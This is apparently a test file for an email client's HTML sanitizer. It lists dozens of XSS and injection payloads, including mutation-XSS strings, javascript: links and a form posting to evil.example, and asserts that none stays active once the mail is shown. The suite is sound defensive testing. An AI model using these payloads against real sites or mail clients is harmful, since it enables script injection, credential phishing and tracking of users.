import { describe, expect, it } from "vitest";
import { mailDocument } from "../../src/features/conversation/mail-document";
import { activeIn, shown } from "../shown-mail";

const HOSTILE: [string, string][] = [
  ["a script", "<script>alert(1)</script>"],
  [
    "a script whose end tag hides in a comment",
    "<script><!--</script><img src=x onerror=alert(1)>",
  ],
  ["an image that fails", "<img src=x onerror=alert(1)>"],
  ["an image that fails, without spaces", "<img/onerror=alert(1)/src=x>"],
  ["a drawing that loads", "<svg onload=alert(1)><circle r=1></svg>"],
  ["a script in a drawing", "<svg><script>alert(1)</script></svg>"],
  ["a drawing that uses another", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>"],
  [
    "an animated link",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
  ],
  ["a link that is a script", "<a href='javascript:alert(1)'>Pay</a>"],
  ["a script with a tab in its scheme", "<a href='java\tscript:alert(1)'>Pay</a>"],
  ["a script with a control character", "<a href='&#1;javascript:alert(1)'>Pay</a>"],
  ["a script with its colon as an entity", "<a href='javascript&colon;alert(1)'>Pay</a>"],
  ["a link to a page made of data", "<a href='data:text/html,<script>alert(1)</script>'>Pay</a>"],
  ["a picture made of a page", "<img src='data:text/html,<script>alert(1)</script>'>"],
  ["a base that turns every link", "<base href='https://evil.example/'><a href='/pay'>Pay</a>"],
  [
    "a page that sends itself away",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  ],
  ["a style of another server", "<link rel=stylesheet href='https://evil.example/x.css'>"],
  [
    "a style that loads",
    "<style>@import 'https://evil.example'; p{background:url(//evil)}</style>",
  ],
  ["an attribute that loads", "<p style='background:url(https://evil.example/p.gif)'>Hi</p>"],
  [
    "one that loads by an escape",
    "<p style='background:u\\72l(https://evil.example/p.gif)'>Hi</p>",
  ],
  ["a table that loads", "<table background='https://evil.example/p.gif'><td>Hi</td></table>"],
  ["a form", "<form action='https://evil.example'><input name=pin><button>Go</button></form>"],
  ["a button that turns a form", "<button form=f formaction='javascript:alert(1)'>Go</button>"],
  ["a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
  ["an object", "<object data='data:text/html,x'><embed src='https://evil.example'></object>"],
  ["a film", "<video poster='//evil.example/p.gif'><source onerror=alert(1)></video>"],
  ["a map", "<map name=m><area href='javascript:alert(1)' shape=default></map>"],
  ["a template", "<template><img src=x onerror=alert(1)></template>"],
  ["a dialog over the page", "<dialog open style='position:fixed;inset:0'>Sign in</dialog>"],
  [
    "markup that a noscript hides",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  ],
  [
    "markup that a style in a drawing hides",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
  ],
  [
    "markup that turns when it is parsed again",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  ],
  [
    "a form in a form that turns when it is parsed again",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'></form>",
  ],
  ["markup in a title of a drawing", "<svg><title><img src=x onerror=alert(1)></title></svg>"],
  ["an element nobody knows", "<x-pay onfocus=alert(1) tabindex=1 autofocus>Hi</x-pay>"],
  ["a comment that ends twice", "<!--><img src=x onerror=alert(1)>-->"],
  ["deep nesting", `${"<div>".repeat(200)}<img src=x onerror=alert(1)>${"</div>".repeat(200)}`],
  [
    "a mail that leaves the body",
    "</body></html><script>alert(1)</script><body onload=alert(1)><p>Hi</p>",
  ],
];

describe("an HTML mail in its frame", () => {
  it.each(HOSTILE)("has nothing active of %s", (_, html) => {
    // Given a hostile mail, when it is shown, with remote images and without
    const unclean = new DOMParser().parseFromString(html, "text/html");
    expect(activeIn(unclean.documentElement)).not.toEqual([]);
    // Then nothing in it can run, load, send or lead astray
    expect(activeIn(shown(html))).toEqual([]);
    expect(activeIn(shown(html, true))).toEqual([]);
  });

  it("keeps what people write", () => {
    // Given a mail of a client
    const html =
      "<p>Hi,</p><ul><li><b>1,240</b></li></ul><blockquote>Before</blockquote>" +
      "<table><tr><td>Q3</td></tr></table>";
    // When it is shown, then it is whole
    const body = shown(html);
    expect(body.textContent).toBe("Hi,1,240BeforeQ3");
    expect(body.querySelectorAll("ul b, blockquote, td")).toHaveLength(3);
  });

  it("opens links apart from the page, and only those that lead somewhere", () => {
    // Given links of every kind
    const schemes = ["https://a.example", "mailto:a@b.example", "tel:+15550100101"];
    const refused = ["/settings/sms", "//evil.example", "#top", "cid:part1", "ftp://a.example"];
    const html = [...schemes, ...refused].map((to) => `<a href="${to}" target=_top>x</a>`).join("");
    // When they are shown
    const links = [...shown(html).querySelectorAll("a")];
    // Then each opens in a page of its own, which knows nothing of ours
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      ...schemes,
      ...refused.map(() => null),
    ]);
    expect(links.every((link) => link.target === "_blank")).toBe(true);
    expect(links.every((link) => link.rel === "noopener noreferrer nofollow")).toBe(true);
  });

  it("leaves remote pictures out, and says so", () => {
    // Given a mail with a remote picture and one of its own
    const html = `<img src="https://tracker.example/p.gif" srcset="https://tracker.example/2.gif 2x">
      <img src="data:image/png;base64,AAAA">`;
    // When nobody asked for them, then only its own is there, by the frame's policy too
    const { source, blocked } = mailDocument(html, { remoteImages: false, quoted: true });
    expect(blocked).toBe(true);
    expect(source).not.toContain("tracker.example");
    expect(source).toContain(
      "default-src 'none'; style-src 'unsafe-inline'; img-src data: blob:\"",
    );
    expect(shown(html).querySelectorAll("img")).toHaveLength(1);
  });

  it("shows those that the page has fetched, and asks nobody itself", () => {
    // Given pictures of several kinds, one of which has come
    const html = [
      "https://a.example/p.png",
      "https://b.example/p.png",
      "http://a.example/p.png",
      "//a.example/p.png",
      "cid:1",
    ]
      .map((src) => `<img src="${src}">`)
      .join("");
    const pictures = new Map([["https://a.example/p.png", "blob:https://here/1"]]);
    // When they are asked for, then that one is there, and no address of a stranger's
    const { source, blocked } = mailDocument(html, { remoteImages: true, quoted: true, pictures });
    expect(blocked).toBe(false);
    expect(source).toContain('img-src data: blob:"');
    expect(source).not.toContain(".example");
    expect(source.match(/<img /g)).toHaveLength(1);
  });

  it("does not offer pictures that there are not", () => {
    // Given a mail without a picture of another server, then there is nothing to show
    const html = "<p>Hi</p><img src='data:image/gif;base64,AAAA'>";
    expect(mailDocument(html, { remoteImages: false, quoted: true }).blocked).toBe(false);
  });

  it("shows what the mail brought along where its text names it", () => {
    // Given a mail with pictures of its own, one of which did not come, and one that is nobody's
    const html =
      '<p><img src="cid:logo%40x"> <img src="CID:gone@x"> <img src="blob:https://here/1"></p>';
    const pictures = new Map([["cid:logo@x", "blob:https://here/2"]]);
    // When it is shown
    const { source, blocked } = mailDocument(html, { remoteImages: false, quoted: true, pictures });
    const images = new DOMParser().parseFromString(source, "text/html").querySelectorAll("img");
    // Then what came is in its place, and nothing is asked of a stranger
    expect([...images].map((image) => image.getAttribute("src"))).toEqual(["blob:https://here/2"]);
    expect(blocked).toBe(false);
  });
});
